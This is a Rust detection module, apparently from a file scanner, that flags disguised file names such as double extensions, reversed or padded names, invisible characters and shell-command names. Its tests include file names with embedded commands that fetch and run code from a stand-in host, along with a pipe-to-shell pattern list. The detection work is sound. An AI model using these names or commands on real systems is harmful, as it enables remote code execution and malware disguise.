//! Names that pretend.
//!
//! A person decides by the name. Windows hides the last extension and draws the icon the file asks for, so attackers
//! write `invoice.pdf.exe`, push the true extension out of sight with blanks, turn it round with the controls of
//! right-to-left writing (`invoice_` U+202E `fdp.exe` is shown as `invoice_exe.pdf`), or give a program the extension of a
//! picture and ask the reader to rename it.
//!
//! Where the thing is of a kind that acts when opened, the disguise is proof enough to stop; otherwise the name is
//! only odd, and the sender can say why.

use crate::artifact::Class;
use crate::detections::Detection;
use crate::finding::{Evidence, FindingKind, Level, Observation, is_invisible};
use crate::formats::{self, Format};
use crate::view::{Named, Reads, View};

const DISGUISED: FindingKind = FindingKind::new("name.disguised-program", Level::Stop, Some("F1"));
const DOUBLE: FindingKind = FindingKind::new("name.double-extension", Level::Hold, Some("F1"));
const REVERSED: FindingKind = FindingKind::new("name.reversed", Level::Hold, Some("F1"));
const PADDED: FindingKind = FindingKind::new("name.padded", Level::Hold, Some("F1"));
const INVISIBLE: FindingKind = FindingKind::new("name.invisible", Level::Hold, Some("F1"));
const MISMATCH: FindingKind = FindingKind::new("name.extension-mismatch", Level::Hold, Some("F2"));
/// A name that a shell of Linux would run where somebody lists the archive with careless commands.
const SHELL: FindingKind = FindingKind::new("name.shell-command", Level::Stop, Some("F1"));
/// A locked archive shows the names of what it hides; one that runs is reason enough not to unlock it.
const RISKY_LOCKED: FindingKind = FindingKind::new("archive.risky-locked", Level::Stop, Some("E3"));

pub(super) const DETECTION: Detection = Detection {
    kinds: &[&DISGUISED, &DOUBLE, &REVERSED, &PADDED, &INVISIBLE, &MISMATCH, &SHELL, &RISKY_LOCKED],
    reads: Reads::Named,
    find,
};

fn find(view: &View<'_>, found: &mut Vec<Observation>) {
    let View::Named(named) = view else { return };
    let name = Name::new(named.name);
    let observe = |kind| {
        let observation = Observation::new(kind, Evidence::quote(named.name)).with("name", name.file);
        match named.format.or(named.claimed) {
            Some(format) => observation.with("type", format.id),
            None => observation,
        }
    };
    let acting = acting(named);
    if let Some(claimed) = named.claimed.filter(|claimed| named.locked && claimed.acts()) {
        let risky = observe(&RISKY_LOCKED).with("names", named.name).with("risky", name.file).with("type", claimed.id);
        found.push(risky);
    }
    if named.offered && is_shell_command(named.name) {
        found.push(observe(&SHELL));
    }
    let pretends = named.claimed.is_some_and(|claimed| !claimed.acts()) && !name.is_apple_double();
    if let Some(format) = acting.filter(|_| pretends || (named.offered && name.is_deceptive())) {
        found.push(observe(&DISGUISED).with("type", format.id));
        return;
    }
    if !named.offered {
        return;
    }
    let odd = [
        (&DOUBLE, name.lure().is_some() && named.format.or(named.claimed).is_some_and(is_odd_behind_a_document)),
        (&REVERSED, name.is_reversed()),
        (&PADDED, name.is_padded()),
        (&INVISIBLE, name.hides_characters() || named.name.contains('\0')),
    ];
    found.extend(odd.into_iter().filter(|(_, holds)| *holds).map(|(kind, _)| observe(kind)));
    if let Some(format) = mismatch(named, &name) {
        let extension = formats::extension(named.name);
        found.push(
            Observation::new(&MISMATCH, Evidence::quote(named.name)).with("ext", extension).with("type", format.id),
        );
    }
}

/// Whether a name holds what a shell expands (`` ` `` or `$(`, `[POSIX]` XCU 2.6.3) around something that runs.
fn is_shell_command(name: &str) -> bool {
    let name = name.to_lowercase();
    let inside = name.split_once('`').or_else(|| name.split_once("$(")).map(|(_, inside)| inside);
    let runs = |text: &str| {
        let bare: String = text.chars().filter(|c| !matches!(c, ' ' | '\t' | '{' | '}')).collect();
        ["|bash", "|sh", "|base64", "|python", "|perl", "bash-c", "sh-c", "curl,", "wget,", "echo,"]
            .iter()
            .any(|word| bare.contains(word))
    };
    inside.is_some_and(runs) || name.contains("{echo,") && name.contains("|{")
}

/// The kind that acts, if this is one: by its content, or, where the content tells nothing or something harmless, by
/// the name the system would go by.
fn acting(named: &Named<'_>) -> Option<&'static Format> {
    let by_content = named.format.filter(|format| format.acts());
    by_content.or_else(|| named.claimed.filter(|claimed| named.offered && claimed.acts()))
}

/// A document's name with a second extension of a kind that is no document's usual wrapping: pages and rare formats.
/// Archives, mails and conversions to documents (`a.pdf.zip`, `a.xlsx.pdf`) are how honest programs name things.
fn is_odd_behind_a_document(format: &Format) -> bool {
    format.class == Class::Web || format.risk.is_some()
}

/// A file name taken apart.
struct Name<'a> {
    /// Without folders.
    file: &'a str,
    /// Before the last dot.
    stem: &'a str,
    /// Behind it; empty if there is none.
    extension: &'a str,
}

impl<'a> Name<'a> {
    fn new(name: &'a str) -> Self {
        let file = name.rsplit(['/', '\\']).next().unwrap_or_default();
        let (stem, extension) = file.rsplit_once('.').unwrap_or((file, ""));
        Self { file, stem, extension }
    }

    /// What a Mac keeps beside each file on foreign disks: same name behind `._`, other content.
    fn is_apple_double(&self) -> bool {
        self.file.starts_with("._")
    }

    fn is_deceptive(&self) -> bool {
        self.lure().is_some() || self.is_reversed() || self.is_padded() || self.hides_characters()
    }

    /// The extension before the last one, if it is one that people open without a thought.
    fn lure(&self) -> Option<&'static Format> {
        let (stem, inner) = self.stem.trim_end_matches(is_blank).rsplit_once('.')?;
        let inner: String = inner.chars().filter(|c| !is_invisible(*c) && !c.is_whitespace()).collect();
        let format = formats::by_extension(&inner.to_lowercase())?;
        let harmless =
            matches!(format.class, Class::Document | Class::Picture | Class::Media | Class::Archive | Class::Mail)
                || matches!(inner.to_ascii_lowercase().as_str(), "txt" | "html" | "htm" | "csv");
        // Countries, mostly: sites saved from the address bar are called `www.example.com.ar.url`.
        let known = inner.len() > 2 || matches!(inner.to_ascii_lowercase().as_str(), "7z" | "gz" | "xz");
        (harmless && known && !format.acts() && !stem.is_empty()).then_some(format)
    }

    /// Overrides, embeddings and isolates move what follows. The plain marks (U+200E, U+200F) are common in honest
    /// Arabic and Hebrew names and move nothing.
    fn is_reversed(&self) -> bool {
        self.file.contains(|c| matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'))
    }

    /// Five blanks right before the last extension or right behind an inner one; or so many that the rest is out of
    /// sight in any window.
    fn is_padded(&self) -> bool {
        let blanks = |text: &str| text.chars().rev().take_while(|c| is_blank(*c)).count();
        if self.extension.is_empty() {
            return false;
        }
        for (at, c) in self.stem.char_indices().filter(|(_, c)| !is_blank(*c)).chain([(self.stem.len(), '.')]) {
            let before = self.stem.get(..at).unwrap_or_default();
            let run = blanks(before);
            let inner = before.trim_end_matches(is_blank);
            if run >= FAR || (run >= WIDE && (c == '.' || Name::new(inner).claims_something())) {
                return true;
            }
        }
        false
    }

    fn claims_something(&self) -> bool {
        formats::by_extension(&self.extension.to_lowercase()).is_some()
    }

    /// Invisible characters in the extensions or shortly before them. Elsewhere they come with text copied from pages.
    fn hides_characters(&self) -> bool {
        if self.extension.is_empty() {
            return false;
        }
        let chars: Vec<char> = self.file.chars().collect();
        let dot = chars.iter().rposition(|c| *c == '.').unwrap_or(chars.len());
        let from = dot.saturating_sub(NEAR);
        chars.iter().enumerate().skip(from).any(|(at, c)| {
            let before = at.checked_sub(1).and_then(|at| chars.get(at)).copied();
            let after = chars.get(at.saturating_add(1)).copied();
            is_hidden(*c, before, after)
        })
    }
}

/// Blanks that hide an extension.
const WIDE: usize = 5;
/// Blanks that push anything out of sight.
const FAR: usize = 16;
/// How near to the extension, in characters, an invisible one matters.
const NEAR: usize = 12;

/// Every blank, also those that are letters to a program: Hangul fillers and the empty Braille cell.
const fn is_blank(c: char) -> bool {
    matches!(
        c,
        ' ' | '\t' | '\u{A0}' | '\u{1680}' | '\u{2000}'
            ..='\u{200B}'
                | '\u{202F}'
                | '\u{205F}'
                | '\u{2800}'
                | '\u{3000}'
                | '\u{3164}'
                | '\u{FFA0}'
                | '\u{115F}'
                | '\u{1160}'
    )
}

/// Whether an invisible character has no business between its neighbours.
fn is_hidden(c: char, before: Option<char>, after: Option<char>) -> bool {
    let foreign = |c: Option<char>| c.is_some_and(|c| !c.is_ascii() && !is_invisible(c));
    match c {
        // Reported as reversed, or harmless.
        '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{61C}' => false,
        // Joiners shape letters of many scripts and join emoji; selectors choose a form of the sign before them.
        '\u{200C}' | '\u{200D}' => !(foreign(before) && foreign(after)),
        '\u{FE00}'..='\u{FE0F}' | '\u{E0100}'..='\u{E01EF}' | '\u{180B}'..='\u{180D}' => {
            !(foreign(before) || before.is_some_and(|c| c.is_ascii_digit() || matches!(c, '#' | '*')))
        }
        // Flags of regions are spelled with tags.
        '\u{E0020}'..='\u{E007F}' => {
            before.is_none_or(|c| c != '\u{1F3F4}' && !('\u{E0020}'..='\u{E007F}').contains(&c))
        }
        '\u{2800}' => {
            let braille = |c: Option<char>| c.is_some_and(|c| ('\u{2801}'..='\u{28FF}').contains(&c));
            !braille(before) && !braille(after)
        }
        // Khmer and Hangul use these inside words.
        '\u{17B4}' | '\u{17B5}' | '\u{115F}' | '\u{1160}' => !foreign(before),
        _ => is_invisible(c),
    }
}

/// The format by content, if the name promises another and the difference is one that honest programs do not make.
///
/// What is forgiven, and why: relatives are confused all the time and open in the same program (pictures among
/// pictures, Office formats among Office formats, ZIP-based formats among each other, the layers of `.tar.gz`); text is
/// shown as text whatever it is called; `.xls` that is text or Excel's own XML is the everyday export of business
/// systems. `.xls` and `.doc` that are pages or RTF are as common in honest mail as in attacks; Office itself asks
/// before it opens them, and so do we.
fn mismatch(named: &Named<'_>, name: &Name<'_>) -> Option<&'static Format> {
    let (format, claimed) = (named.format?, named.claimed?);
    let forgiven = format.id == claimed.id
        || format.acts()
        || claimed.acts()
        || name.is_apple_double()
        || format.id == "office-owner"
        || format.extensions.contains(&formats::extension(named.name).as_str())
        || are_relatives(format, claimed);
    (!forgiven).then_some(format)
}

/// Formats that are confused without anybody meaning harm.
fn are_relatives(content: &Format, claimed: &Format) -> bool {
    let class = |format: &Format| match format.class {
        Class::Media => Class::Picture,
        Class::Data => Class::Text,
        class => class,
    };
    let same_kind =
        class(content) == class(claimed) && !matches!(content.class, Class::Document | Class::Archive | Class::Unknown);
    let shown_as_text = matches!(claimed.class, Class::Text | Class::Data)
        && matches!(
            content.class,
            Class::Web | Class::Mail | Class::Script | Class::Shortcut | Class::Text | Class::Data
        );
    let only_text = content.class == Class::Text && claimed.class != Class::Archive;
    let table = claimed.id == "xls" && matches!(content.id, "csv" | "excel-2003-xml" | "biff");
    let both = |group: &[&str]| group.contains(&content.id) && group.contains(&claimed.id);
    let zip_based = |format: &Format| ZIP_BASED.contains(&format.id);
    let office = |format: &Format| OFFICE.contains(&format.id) || zip_based(format);
    same_kind
        || shown_as_text
        || only_text
        || table
        || (zip_based(content) && zip_based(claimed))
        || (office(content) && office(claimed) && content.id != "zip" && claimed.id != "zip")
        || both(&["tar", "gz", "bz2", "xz", "lzma", "lzip", "zst", "lz4", "compress", "lzop", "cpio"])
        || both(&["pdf", "postscript", "eps", "fdf", "xfa"])
        || both(&["p7m", "certificate", "pgp", "eml"])
        || both(&["eml", "mbox", "mht"])
        || both(&["csv", "xml", "json", "text", "html"])
        || both(&["svg", "xhtml", "html"])
        || both(&["xml", "dif"])
        || both(&["gz", "warc"])
        || (claimed.id == "xml" && XML_BASED.contains(&content.id))
        || both(&["ar", "deb"])
        || both(&["rtf", "word-2003-xml", "wordperfect", "windows-write"])
        || both(&["lotus-123", "quattro-pro", "biff", "xls"])
        || both(&["one", "onetoc2", "onepkg"])
        || both(&["source-code", "json", "text", "plist-xml", "plist"])
}

/// Packages that are ZIP files.
const ZIP_BASED: &[&str] = &[
    "zip",
    "docx",
    "docm",
    "dotx",
    "dotm",
    "xlsx",
    "xlsm",
    "xltx",
    "xltm",
    "xlam",
    "xlsb",
    "pptx",
    "pptm",
    "ppsx",
    "ppsm",
    "potx",
    "potm",
    "ppam",
    "vsdx",
    "vsdm",
    "ooxml",
    "opendocument",
    "epub",
    "xps",
];

/// Documents that are XML files and may say so.
const XML_BASED: &[&str] = &[
    "word-2003-xml",
    "excel-2003-xml",
    "flat-opc",
    "infopath",
    "flat-odf",
    "xfa",
    "fdf",
    "xslt",
    "svg",
    "xhtml",
    "html",
];

/// What Office opens by content, whatever the name says.
const OFFICE: &[&str] = &[
    "doc",
    "xls",
    "ppt",
    "vsd",
    "pub",
    "mpp",
    "office-encrypted",
    "ole-object",
    "word-2003-xml",
    "excel-2003-xml",
    "flat-opc",
    "infopath",
    "word-for-dos",
    "biff",
];

#[cfg(test)]
mod tests {
    use super::*;

    /// The ids found for a name whose content is of the format with this id.
    fn found(name: &str, format: Option<&str>, locked: bool, offered: bool) -> Vec<&'static str> {
        let format = format.map(|id| formats::by_id(id).unwrap());
        let claimed = formats::by_extension(&formats::extension(name));
        let mut found = Vec::new();
        find(&View::Named(Named { name, format, claimed, locked, offered, in_source: false }), &mut found);
        found.iter().map(|observation| observation.kind.id).collect()
    }

    fn of(name: &str, format: &str) -> Vec<&'static str> {
        found(name, Some(format), false, true)
    }

    #[test]
    fn names_that_a_shell_would_run() {
        for name in [
            "ziliao2.pdf`{echo,KGN1cmw=}|{base64,-d}|bash`",
            "a$(curl http://a.example|sh).txt",
            "b`wget,-qO-,http://a.example|bash`.pdf",
            "{echo,eA==}|{base64,-d}|bash",
        ] {
            assert!(is_shell_command(name), "{name}");
        }
        for name in ["`README`.md", "price $(2024).xlsx", "it`s echo.txt", "$(document).ready.js", "{a}|{b}.txt"] {
            assert!(!is_shell_command(name), "{name}");
        }
    }

    #[test]
    fn sites_saved_under_their_names_are_no_disguise() {
        assert!(of("www.example.com.ar.url", "url").is_empty());
        assert!(of("Chat - www.example.ai.URL", "url").is_empty());
        assert_eq!(of("invoice.pdf.url", "url"), ["name.disguised-program"]);
        assert_eq!(of("photos.7z.url", "url"), ["name.disguised-program"]);
    }

    #[test]
    fn programs_in_disguise_stop() {
        for (name, format) in [
            ("invoice.pdf.exe", "exe"),
            ("請求書.pdf        .exe", "exe"),
            ("a.jpg.lnk", "lnk"),
            ("invoice_\u{202E}fdp.exe", "exe"),
            ("invoice.exe\u{2800}\u{2800}\u{2800}\u{2800}\u{2800}\u{2800}.scr", "scr"),
            ("invoice.pdf", "exe"),
            ("photo.jpg", "lnk"),
            ("LOVE-LETTER.TXT.vbs", "vbs"),
            ("dir/見積書.pdf.js", "js"),
            ("report.pdf.url", "url"),
        ] {
            assert_eq!(of(name, format), ["name.disguised-program"], "{name}");
        }
        // The content may be unreadable or dull: the system goes by the name.
        assert_eq!(found("a.pdf.scr", None, false, true), ["name.disguised-program"]);
        assert_eq!(of("a.pdf.scr", "text"), ["name.disguised-program"]);
        // Inside a document nobody sees names, but a picture that is a program is a disguise there too.
        assert_eq!(found("media/image1.png", Some("exe"), false, false), ["name.disguised-program"]);
    }

    #[test]
    fn programs_with_their_own_names_are_no_disguise() {
        for (name, format) in [
            ("setup.exe", "exe"),
            ("jquery.min.js", "js"),
            ("setup-1.2.exe", "exe"),
            ("a.dll", "exe"),
            ("libfoo.so.6", "elf"),
            ("v1.2.msc", "msc"),
            ("._setup.pdf", "apple-double"),
            ("www.example.com.url", "url"),
        ] {
            assert!(of(name, format).is_empty(), "{name}");
        }
        assert!(found("word/media/x.pdf.exe", Some("text"), false, false).is_empty());
    }

    #[test]
    fn second_extensions_are_odd_only_before_pages() {
        assert_eq!(of("report.pdf.html", "html"), ["name.double-extension"]);
        assert_eq!(of("invoice.xlsx.svg", "svg"), ["name.double-extension"]);
        for (name, format) in [
            ("archive.tar.gz", "gz"),
            ("backup.sql.gz", "gz"),
            ("Report.2024.pdf", "pdf"),
            ("page.ja.html", "html"),
            ("mail.pdf.eml", "eml"),
            ("logo.svg", "svg"),
            ("a.html.html", "html"),
            ("photo.jpg.jpg", "jpeg"),
            ("x.csv.txt", "text"),
        ] {
            let expected: &[&str] = if name == "a.html.html" { &["name.double-extension"] } else { &[] };
            assert_eq!(of(name, format), expected, "{name}");
        }
    }

    #[test]
    fn reversed_names_hold_and_arabic_names_do_not() {
        assert_eq!(of("x\u{202E}gpj.pdf", "pdf"), ["name.reversed"]);
        assert_eq!(of("x\u{2067}a.pdf", "pdf"), ["name.reversed"]);
        assert!(of("تقرير\u{200F} 2024\u{200E}.pdf", "pdf").is_empty());
        assert!(of("דוח.pdf", "pdf").is_empty());
    }

    #[test]
    fn padding_holds_and_tables_do_not() {
        assert_eq!(of("invoice      .pdf", "pdf"), ["name.padded"]);
        assert_eq!(of("invoice.jpg      x.pdf", "pdf"), ["name.padded"]);
        assert_eq!(of("請求書\u{3000}\u{3000}\u{3000}\u{3000}\u{3000}.pdf", "pdf"), ["name.padded"]);
        assert!(of("No.1      田中様      見積.pdf", "pdf").is_empty());
        assert!(of("a    .pdf", "pdf").is_empty());
        assert!(of("a b c d e f.pdf", "pdf").is_empty());
    }

    #[test]
    fn invisible_characters_near_the_extension_hold() {
        assert_eq!(of("invoice.p\u{200B}df", "pdf"), ["name.invisible"]);
        assert_eq!(of("invoice\u{2800}.pdf", "pdf"), ["name.invisible"]);
        assert_eq!(of("invoice\u{200D}.pdf", "pdf"), ["name.invisible"]);
        assert_eq!(of("a long name.txt\0 behind the end of the name.txt", "text"), ["name.invisible"]);
        assert_eq!(of("invoice.js\0.txt", "text"), ["name.disguised-program"]);
        assert_eq!(of("invoice.js\n", "text"), ["name.disguised-program"]);
        assert!(of("invoice.js_", "text").is_empty());
        assert!(of("\u{FEFF}a very long ordinary file name.pdf", "pdf").is_empty());
        assert!(of("👨\u{200D}👩\u{200D}👧.png", "png").is_empty());
        assert!(of("葛\u{E0100}飾区❤\u{FE0F}.pdf", "pdf").is_empty());
        assert!(of("می\u{200C}خواهم.pdf", "pdf").is_empty());
        assert!(of("1\u{FE0F}\u{20E3}.pdf", "pdf").is_empty());
        assert!(of("⠓⠑⠇⠇⠕\u{2800}⠺.pdf", "pdf").is_empty());
    }

    #[test]
    fn bytes_that_are_not_what_the_name_says_hold() {
        for (name, format) in [
            ("報告書.pdf", "html"),
            ("a.7z", "rar"),
            ("a.tar", "rar"),
            ("a.png", "html"),
            ("a.pdf", "png"),
            ("a.gz", "text"),
            ("報告書.doc", "rtf"),
            ("売上.xls", "html"),
            ("a.doc", "mht"),
        ] {
            assert_eq!(of(name, format), ["name.extension-mismatch"], "{name} {format}");
        }
    }

    #[test]
    fn confused_relatives_do_not() {
        for (name, format) in [
            ("a.jpg", "png"),
            ("a.png", "webp"),
            ("a.mov", "mp4"),
            ("a.tgz", "tar"),
            ("a.txt", "csv"),
            ("a.txt", "html"),
            ("a.log", "eml"),
            ("a.xml", "svg"),
            ("a.dat", "tnef"),
            ("a.bin", "gif"),
            ("a.tmp", "rtf"),
            ("a", "pdf"),
            ("a.ai", "postscript"),
            ("a.htm", "xhtml"),
            ("a.ttf", "otf"),
            ("a.pdf", "text"),
            ("a.scr", "exe"),
            ("売上.xls", "csv"),
            ("売上.xls", "excel-2003-xml"),
            ("売上.xls", "text"),
            ("a.doc", "docx"),
            ("a.docx", "office-encrypted"),
            ("a.dotx", "docx"),
            ("a.docx", "zip"),
            ("a.zip", "docx"),
            ("a.xml", "word-2003-xml"),
            ("desktop.ini", "desktop-ini"),
            ("a.eml", "mbox"),
            ("a.p7s", "certificate"),
            ("._a.pdf", "apple-double"),
        ] {
            assert!(of(name, format).is_empty(), "{name} {format}");
        }
    }

    #[test]
    fn a_locked_archive_with_a_program_stops() {
        assert_eq!(found("a/setup.exe", None, true, true), ["archive.risky-locked"]);
        assert_eq!(found("請求書.pdf.lnk", None, true, true), ["archive.risky-locked", "name.disguised-program"]);
        assert!(found("請求書.pdf", None, true, true).is_empty());
        assert!(found("readme", None, true, true).is_empty());
    }
}
